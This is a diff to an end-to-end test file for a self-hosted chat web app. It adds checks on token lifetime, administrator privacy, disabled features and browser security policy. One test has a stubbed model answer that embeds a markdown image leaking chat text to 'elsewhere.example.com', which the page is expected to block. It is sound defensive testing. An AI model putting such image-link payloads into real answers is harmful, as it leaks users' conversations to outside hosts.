@@ -7,6 +7,7 @@ import { describe, expect, it } from "vitest";
 import { connectionOptions } from "../../../rehearsal/cluster/gateway/request";
 import { waitFor } from "../../../rehearsal/cluster/wait";
 import { sharedBySuite } from "../../e2e/shared-by-suite";
+import { launchChromium } from "../chromium";
 import { ADMINISTRATOR, MODEL, PAGE_HOSTNAME, PageTestbed } from "./page-testbed";
 
 /** Of an account that the administrator makes. */
@@ -58,6 +59,12 @@ describe("who comes in", () => {
     const made = await testbed().ask({ path: "/api/v1/auths/add", json: account }, await administrator());
     expect(made.status).toBe(200);
     await ann();
+  });
+
+  it("for a day", async () => {
+    const [, claims = ""] = (await ann()).split(".");
+    const { iat, exp } = JSON.parse(Buffer.from(claims, "base64url").toString()) as { iat: number; exp: number };
+    expect(exp - iat).toBeCloseTo(24 * 3600, -1);
   });
 
   it("no one by signing up, with another password, or without a session", async () => {
@@ -133,9 +140,68 @@ describe("a chat", () => {
     );
   });
 
+  it("is shown in Chromium, which loads nothing from elsewhere that an answer names", async () => {
+    const [proxy] = testbed().gateway.proxies;
+    const browser = await launchChromium(
+      `--host-resolver-rules=MAP ${PAGE_HOSTNAME}:443 ${proxy?.address}:${proxy?.httpsPort}, MAP * ~NOTFOUND`,
+    );
+    try {
+      const page = await browser.newPage({ ignoreHTTPSErrors: true });
+      const refused: string[] = [];
+      page.on("console", (message) => {
+        if (message.text().includes("Content Security Policy")) {
+          refused.push(message.text());
+        }
+      });
+      await page.goto(`https://${PAGE_HOSTNAME}/auth`);
+      await page.fill("#email", ANN.email);
+      await page.fill("input[type=password]", ANN.password);
+      await page.click("button[type=submit]");
+      await page.click("#chat-input");
+      const before = open.length;
+      await page.keyboard.type("Hi");
+      await page.keyboard.press("Enter");
+      await waitFor("the message", async () => open.length > before || undefined, 60);
+      // Requests for a title are the engine's too.
+      const answered = setInterval(() => {
+        for (const response of open.splice(before)) {
+          response.end(`${event("lo! ![](https://elsewhere.example.com/?chat=Hi)")}data: [DONE]\n\n`);
+        }
+      }, 200);
+      await page.getByText("Hello!").first().waitFor({ timeout: 60_000 });
+      await waitFor("the image's refusal", async () => refused.length > 0 || undefined, 30);
+      clearInterval(answered);
+      expect(refused.filter((text) => !text.includes("elsewhere.example.com"))).toEqual([]);
+    } finally {
+      await browser.close();
+    }
+  });
+
   it("gets its answers by a WebSocket, from the page's own address alone", async () => {
     expect(await upgrade(`https://${PAGE_HOSTNAME}`)).toBe(101);
     expect(await upgrade("https://evil.example.com")).toBe(403);
+  });
+});
+
+describe("an administrator", () => {
+  it("is shown no chats, messages and files of others", async () => {
+    const [own, session] = [await ann(), await administrator()];
+    const form = `--x\r\ncontent-disposition: form-data; name="file"; filename="ann.txt"\r\ncontent-type: text/plain\r\n\r\nOf Ann\r\n--x--\r\n`;
+    const headers = { "content-type": "multipart/form-data; boundary=x" };
+    const sent = await testbed().ask({ path: "/api/v1/files/?process=false", body: form, headers }, own);
+    expect(sent.status).toBe(200);
+    const files = async (who: string) =>
+      (await testbed().ask({ path: "/api/v1/files/" }, who))
+        .json<{ items: { filename: string }[] }>()
+        .items.map(({ filename }) => filename);
+    expect([await files(own), await files(session)]).toEqual([["ann.txt"], []]);
+    const { id } = (await testbed().ask({ path: "/api/v1/auths/" }, own)).json<{ id: string }>();
+    expect((await testbed().ask({ path: `/api/v1/chats/list/user/${id}` }, session)).status).toBe(401);
+    // Where no route is, the page's own document answers.
+    for (const path of [`messages?user_id=${id}`, `models/${MODEL}/chats`]) {
+      const answer = await testbed().ask({ path: `/api/v1/analytics/${path}` }, session);
+      expect(answer.headers["content-type"]).toContain("text/html");
+    }
   });
 });
 
@@ -164,6 +230,7 @@ describe("what is off", () => {
       ...["enable_signup", "enable_api_keys", "enable_version_update_check", "enable_direct_connections"],
       ...["enable_plugins", "enable_web_search", "enable_code_execution", "enable_code_interpreter"],
       ...["enable_image_generation", "enable_community_sharing", "enable_admin_export", "enable_admin_chat_access"],
+      ...["enable_admin_analytics", "enable_message_rating"],
     ];
     expect(off.filter((name) => features[name] !== false)).toEqual([]);
   });
@@ -185,8 +252,8 @@ describe("users and chats", () => {
     expect((await testbed().ask({ path: "/api/v1/chats/new", json: { chat } }, session)).status).toBe(200);
     await testbed().stopPage();
     await testbed().startPage();
-    expect(await chats(session)).toEqual([CHAT]);
-    expect(await chats(await ann())).toEqual([CHAT]);
+    expect(await chats(session)).toContain(CHAT);
+    expect(await chats(await ann())).toContain(CHAT);
   });
 
   it("come back from the real MinIO after the volume is lost", async () => {
@@ -199,7 +266,7 @@ describe("users and chats", () => {
     await testbed().stopPage();
     expect(await testbed().restore()).toContain("2 users are back");
     await testbed().startPage();
-    expect(await chats(await ann())).toEqual([CHAT]);
+    expect(await chats(await ann())).toContain(CHAT);
   });
 });
 
